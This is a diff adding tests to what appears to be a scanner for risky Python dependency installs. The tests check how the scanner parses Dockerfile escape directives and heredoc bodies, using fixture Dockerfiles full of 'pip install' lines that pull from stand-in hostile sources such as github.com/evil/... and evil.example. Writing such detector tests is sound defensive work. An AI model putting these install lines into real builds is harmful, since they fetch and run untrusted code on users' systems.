@@ -207,6 +207,88 @@ describe('install commands as make, the CI runner and docker build hand them to 
     expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP014@Dockerfile:4', 'CPP015@Dockerfile:8']);
   });
 
+  // BuildKit's `possibleParserDirective` / `setEscapeToken`: after `# escape=``, a backtick at a line's end continues
+  // the instruction and a backslash is text. A here-document's body is the shell's, where `\` still continues.
+  it('a Dockerfile with `# escape=`` continues its instructions at backticks, not backslashes', async () => {
+    const dir = tree({
+      Dockerfile: [
+        '# syntax=docker/dockerfile:1', // 1
+        '# check=skip=all', // 2
+        '# escape=`', // 3
+        'FROM python:3.12', // 4
+        'RUN pip install --no-cache-dir `', // 5
+        '    # pinned below', // 6
+        '    git+https://github.com/evil/backtick.git', // 7
+        'RUN pip install flask \\', // 8
+        '    git+https://github.com/evil/not-continued.git', // 9
+        'RUN <<EOF', // 10
+        'pip install \\', // 11
+        '    https://evil.example/in-heredoc-1.0.tar.gz', // 12
+        'EOF', // 13
+      ].join('\n'),
+    });
+    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP014@Dockerfile:7', 'CPP015@Dockerfile:12']);
+  });
+
+  // BuildKit's `Parse` reads the lines after a `RUN` / `COPY` / `ADD` with `<<NAME` words as here-documents up to
+  // each terminator, raw; `dispatchRun` runs a lone `RUN <<EOF` body with the shell (a `#!` one with its
+  // interpreter) and otherwise hands the body to the command as stdin. A Python program is no shell lines; nothing
+  // reads a heredoc with no command; a file (`COPY <<EOF`, `cat > f <<EOF`) may be run as a script later. A builder
+  // without heredocs reads a body's `RUN` line as an instruction.
+  it('a Dockerfile: heredoc bodies are read as shell lines unless Python or nothing reads them', async () => {
+    const dir = tree({
+      Dockerfile: [
+        'FROM python:3.12', // 1
+        'RUN <<EOF', // 2
+        'set -e', // 3
+        'pip install git+https://github.com/evil/lone.git', // 4
+        'pip install requests \\', // 5
+        '# in a shell script a comment ends the command', // 6
+        'git+https://github.com/evil/not-installed.git', // 7
+        'EOF', // 8
+        'RUN python3 - 2>&1 <<EOF', // 9
+        'import os; os.environ["X"] = "1"', // 10
+        'pip install git+https://github.com/evil/python-text.git', // 11
+        'RUN pip install git+https://github.com/evil/classic-builder.git', // 12
+        'EOF', // 13
+        'RUN <<EOF', // 14
+        '#!/usr/bin/env python3', // 15
+        'pip install git+https://github.com/evil/shebang-python.git', // 16
+        'EOF', // 17
+        'RUN <<EOF', // 18
+        '#!/bin/bash -e', // 19
+        'pip install git+https://github.com/evil/shebang-bash.git', // 20
+        'EOF', // 21
+        'COPY <<EOF /app/notes.txt', // 22
+        'pip install git+https://github.com/evil/copied-file.git', // 23
+        'EOF', // 24
+        'RUN --mount=type=cache,target=/root/.cache cd /app && VAR=1 sh -e <<-EOT', // 25
+        '\tpip install git+https://github.com/evil/chomped.git', // 26
+        '\tEOT', // 27
+        'RUN <<A <<B', // 28
+        'pip install git+https://github.com/evil/no-command-a.git', // 29
+        'A', // 30
+        'pip install git+https://github.com/evil/no-command-b.git', // 31
+        'B', // 32
+        'RUN cat > /app/run.sh <<"EOF" && bash /app/run.sh', // 33
+        'pip install git+https://github.com/evil/written-file.git', // 34
+        'EOF', // 35
+        'RUN pip install git+https://github.com/evil/after.git', // 36
+      ].join('\n'),
+    });
+    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
+      [
+        'CPP014@Dockerfile:4',
+        'CPP014@Dockerfile:12',
+        'CPP014@Dockerfile:20',
+        'CPP014@Dockerfile:23',
+        'CPP014@Dockerfile:26',
+        'CPP014@Dockerfile:34',
+        'CPP014@Dockerfile:36',
+      ].sort(),
+    );
+  });
+
   // make expands `$(PIP)` before the shell runs the recipe (GNU make `variable_expand_string`): the line is the
   // `pip install` it becomes.
   it('a Makefile: variables the file sets are expanded, unset ones named after the program are that program', async () => {
